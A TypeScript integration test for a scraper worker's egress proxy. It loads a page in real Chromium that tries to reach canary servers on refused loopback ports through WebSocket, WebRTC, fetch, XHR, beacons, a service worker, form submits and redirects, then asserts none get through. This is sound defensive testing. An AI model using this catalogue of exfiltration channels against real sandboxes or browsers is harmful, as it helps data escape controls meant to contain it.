/**
 * Sealed egress, end to end with a real Chromium: pages on an allowed "shop" try every way out
 * to canaries on refused loopback ports (a TCP server that answers with canary text and a UDP
 * socket). The canaries must see zero connections and zero packets, the renders must carry on,
 * and no canary text may reach what a check would store.
 */
import dgram from 'node:dgram';
import http from 'node:http';
import net from 'node:net';
import { EgressAllowList } from '@app/jobs-domain';
import { PageChecker } from '../../apps/scraper-worker/src/checks/page-checker';
import {
  BrowserPool,
  EgressGuard,
  FetchError,
  HttpFetcher,
  type EgressRefusal,
} from '../../apps/scraper-worker/src/fetching';
import { httpFetcherSettings, WorkerConfig } from '../../apps/scraper-worker/src/worker.config';

const CONFIG = new WorkerConfig();

const executable = BrowserPool.findExecutable();
// As in browser.int-spec.ts: skipped without a browser on a developer's machine, never in CI.
const describeWithBrowser = executable || process.env.CI === 'true' ? describe : describe.skip;

const CANARY_TEXT = 'CANARY-7f3a-credentials';

/** Every way out a page has, each reporting into #results when it has failed (or not). */
function attackPage(canaryTcp: number, canaryUdp: number): string {
  const tcp = `127.0.0.1:${canaryTcp}`;
  return `<!doctype html><html><head><title>Sealed kettle</title>
<link rel="preconnect" href="http://${tcp}">
<link rel="preconnect" href="https://${tcp}">
<link rel="dns-prefetch" href="//canary.example.com">
<link rel="prefetch" href="http://${tcp}/prefetch">
<link rel="prerender" href="http://${tcp}/prerender">
<link rel="stylesheet" href="http://${tcp}/style.css">
<script async src="http://${tcp}/script.js"></script>
</head><body><h1>Sealed kettle</h1>
<img src="http://${tcp}/img.png">
<iframe src="http://${tcp}/iframe"></iframe>
<iframe src="https://${tcp}/iframe-tls"></iframe>
<iframe srcdoc="<form id=f action='http://${tcp}/iframe-form' method=post><input name=a value=b></form><script>document.getElementById('f').submit()</script>"></iframe>
<pre id="results"></pre>
<script>
(function () {
  var out = document.getElementById('results');
  function note(name, what) { out.textContent += name + ':' + what + '\\n'; }
  function within(ms, p) {
    return Promise.race([p, new Promise(function (r) { setTimeout(function () { r('pending'); }, ms); })]);
  }
  function socket(name, url) {
    return new Promise(function (resolve) {
      var ws;
      try { ws = new WebSocket(url); } catch (e) { note(name, 'throw'); return resolve(); }
      ws.onopen = function () { note(name, 'OPEN'); };
      ws.onmessage = function (m) { note(name, 'MESSAGE ' + m.data); };
      ws.onerror = function () { note(name, 'error'); };
      ws.onclose = function () { note(name, 'closed'); resolve(); };
    });
  }
  function rtc() {
    return new Promise(function (resolve) {
      var pc = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:127.0.0.1:${canaryUdp}' },
        { urls: 'turn:127.0.0.1:${canaryUdp}?transport=udp', username: 'u', credential: 'p' },
        { urls: 'turn:${tcp}?transport=tcp', username: 'u', credential: 'p' }
      ] });
      var candidates = 0;
      pc.onicecandidate = function (e) {
        if (e.candidate) { candidates++; return; }
        note('webrtc', 'gathered ' + candidates);
        resolve();
      };
      pc.createDataChannel('x');
      pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
    });
  }
  function request(name, p) {
    return p.then(function (r) { return r.text ? r.text().then(function (t) { note(name, 'OK ' + t); }) : note(name, 'OK'); },
      function () { note(name, 'failed'); });
  }
  var attempts = [
    socket('ws', 'ws://${tcp}/socket'),
    socket('wss', 'wss://${tcp}/socket'),
    socket('ws-localhost', 'ws://localhost:${canaryTcp}/socket'),
    rtc(),
    request('fetch', fetch('http://${tcp}/fetch')),
    request('fetch-tls', fetch('https://${tcp}/fetch')),
    request('fetch-no-cors', fetch('http://${tcp}/no-cors', { mode: 'no-cors' })),
    new Promise(function (resolve) {
      var x = new XMLHttpRequest();
      x.open('GET', 'http://${tcp}/xhr');
      x.onload = function () { note('xhr', 'OK ' + x.responseText); resolve(); };
      x.onerror = function () { note('xhr', 'failed'); resolve(); };
      x.send();
    }),
    new Promise(function (resolve) {
      note('beacon', navigator.sendBeacon('http://${tcp}/beacon', 'x') ? 'queued' : 'refused');
      resolve();
    }),
    new Promise(function (resolve) {
      var es = new EventSource('http://${tcp}/events');
      es.onmessage = function (m) { note('eventsource', 'MESSAGE ' + m.data); };
      es.onerror = function () { note('eventsource', 'error'); es.close(); resolve(); };
    }),
    ('serviceWorker' in navigator
      ? navigator.serviceWorker.register('/sw.js').then(function () { note('sw', 'registered'); },
          function () { note('sw', 'failed'); })
      : Promise.resolve(note('sw', 'unsupported'))),
    new Promise(function (resolve) {
      try { var w = window.open('http://${tcp}/popup'); note('popup', w ? 'opened' : 'blocked'); }
      catch (e) { note('popup', 'throw'); }
      resolve();
    }),
  ].map(function (p) { return within(10000, p); });
  Promise.all(attempts).then(function () {
    var ld = document.createElement('script');
    ld.type = 'application/ld+json';
    ld.textContent = JSON.stringify({ '@context': 'https://schema.org', '@type': 'Product',
      name: 'Sealed kettle', offers: { '@type': 'Offer', price: '42.00', priceCurrency: 'EUR' } });
    document.head.appendChild(ld);
    note('done', 'all');
  });
})();
</script></body></html>`;
}

interface Canary {
  tcpPort: number;
  udpPort: number;
  tcpConnections: number;
  udpPackets: number;
  close(): Promise<void>;
}

/** A TCP canary that would hand any visitor its text (HTTP and WebSocket alike), and a UDP one. */
async function startCanary(): Promise<Canary> {
  const counts = { tcp: 0, udp: 0 };
  const sockets = new Set<net.Socket>();
  const tcp = net.createServer((s) => {
    counts.tcp++;
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
    s.on('error', () => {});
    s.end(
      `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: ${CANARY_TEXT.length}\r\n\r\n${CANARY_TEXT}`,
    );
  });
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
  const udp = dgram.createSocket('udp4');
  udp.on('message', () => counts.udp++);
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  return {
    tcpPort: (tcp.address() as net.AddressInfo).port,
    udpPort: udp.address().port,
    get tcpConnections() {
      return counts.tcp;
    },
    get udpPackets() {
      return counts.udp;
    },
    close: async () => {
      for (const s of sockets) s.destroy();
      await new Promise<void>((r) => tcp.close(() => r()));
      await new Promise<void>((r) => udp.close(() => r()));
    },
  };
}

interface Shop {
  baseUrl: string;
  hostPort: string;
  close(): Promise<void>;
}

async function startShop(canary: Canary): Promise<Shop> {
  const canaryUrl = `http://127.0.0.1:${canary.tcpPort}`;
  const html = (res: http.ServerResponse, body: string) =>
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body);
  const page = (title: string, extra: string) =>
    `<!doctype html><html><head><title>${title}</title>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"${title}","offers":{"@type":"Offer","price":"10.00","priceCurrency":"EUR"}}</script>
${extra}</head><body><h1>${title}</h1></body></html>`;
  const server = http.createServer((req, res) => {
    switch (req.url) {
      case '/attack':
        return html(res, attackPage(canary.tcpPort, canary.udpPort));
      case '/sw.js':
        res.writeHead(200, { 'content-type': 'text/javascript' });
        return res.end(
          `self.addEventListener('install', function () { fetch('${canaryUrl}/sw-install').catch(function () {}); });`,
        );
      case '/navigate':
        return html(
          res,
          page('Navigator', `<script>location.href = '${canaryUrl}/navigated';</script>`),
        );
      case '/meta-refresh':
        return html(
          res,
          page('Refresher', `<meta http-equiv="refresh" content="0;url=${canaryUrl}/refreshed">`),
        );
      case '/form':
        return html(
          res,
          `<!doctype html><html><body><form id="f" action="${canaryUrl}/submitted" method="post"><input name="a" value="b"></form>` +
            `<script>document.getElementById('f').submit()</script></body></html>`,
        );
      case '/redirect-1':
        res.writeHead(302, { location: '/redirect-2' });
        return res.end();
      case '/redirect-2':
        res.writeHead(307, { location: `${canaryUrl}/redirected` });
        return res.end();
      default:
        res.writeHead(404).end();
    }
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as net.AddressInfo).port;
  return {
    baseUrl: `http://127.0.0.1:${port}`,
    hostPort: `127.0.0.1:${port}`,
    close: () =>
      new Promise<void>((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}

describeWithBrowser('Chromium egress is sealed by the worker’s egress proxy', () => {
  let canary: Canary;
  let shop: Shop;
  let pool: BrowserPool;
  let http: HttpFetcher;
  const refusals: EgressRefusal[] = [];

  beforeAll(async () => {
    canary = await startCanary();
    shop = await startShop(canary);
    const guard = new EgressGuard(new EgressAllowList([shop.hostPort]));
    http = new HttpFetcher(guard, { ...httpFetcherSettings(CONFIG), totalTimeoutMs: 5_000 });
    pool = new BrowserPool(guard, {
      executablePath: executable,
      maxPages: 2,
      pageTimeoutMs: 30_000,
      recycleAfterPages: 100,
      userAgent: CONFIG.USER_AGENT,
      acceptLanguage: 'en-US,en;q=0.9',
      onEgressRefused: (r) => refusals.push(r),
    });
  });

  afterAll(async () => {
    await pool?.close();
    await http?.close();
    await shop?.close();
    await canary?.close();
  });

  afterEach(() => {
    expect(canary.tcpConnections).toBe(0);
    expect(canary.udpPackets).toBe(0);
  });

  it('lets no attempt out of an attacking page, and the render carries on', async () => {
    const page = await pool.render(`${shop.baseUrl}/attack`);
    expect(page.status).toBe(200);
    const results = /<pre id="results">([^<]*)<\/pre>/.exec(page.html)?.[1] ?? '';
    // Every attempt ran and failed; none opened or read anything.
    for (const name of [
      'ws',
      'wss',
      'ws-localhost',
      'fetch',
      'fetch-tls',
      'fetch-no-cors',
      'xhr',
      'eventsource',
    ])
      expect(results).toMatch(new RegExp(`^${name}:(error|failed|closed)$`, 'm'));
    expect(results).toMatch(/^webrtc:gathered \d+$/m);
    expect(results).toMatch(/^done:all$/m);
    expect(results).not.toMatch(/OPEN|MESSAGE|OK /);
    expect(page.html).not.toContain(CANARY_TEXT);
    // What reached the proxy was refused there and attributed to this render by host.
    expect(page.refusedHosts).toContain(`127.0.0.1:${canary.tcpPort}`);
    expect(refusals.every((r) => r.host === '127.0.0.1' || r.host === 'localhost')).toBe(true);
    expect(pool.status().egress.connections).toBeGreaterThan(0);
  });

  it.each([
    ['a script navigation', '/navigate'],
    ['a meta refresh', '/meta-refresh'],
    ['a form submit', '/form'],
    ['a redirect chain', '/redirect-1'],
  ])('refuses %s to a refused address', async (_name, path) => {
    const err = await pool.render(`${shop.baseUrl}${path}`).then(
      (page) => page,
      (e: unknown) => e,
    );
    // Either the navigation is refused outright, or the page that stayed holds no canary text.
    if (err instanceof FetchError) expect(err.kind).toBe('egress_blocked');
    else expect((err as { html: string }).html).not.toContain(CANARY_TEXT);
  });

  it('stores nothing from the canary: the checker reads the shop’s own page', async () => {
    const checker = new PageChecker(http, pool);
    const job = { jobId: 'j1', url: `${shop.baseUrl}/attack`, currency: 'EUR' } as never;
    const { observation, path } = await checker.check(job);
    expect(path).toBe('browser');
    expect(JSON.stringify(observation)).not.toContain('CANARY');
    expect(observation).toMatchObject({ outcome: 'ok', price: '42.00', currency: 'EUR' });
  });
});
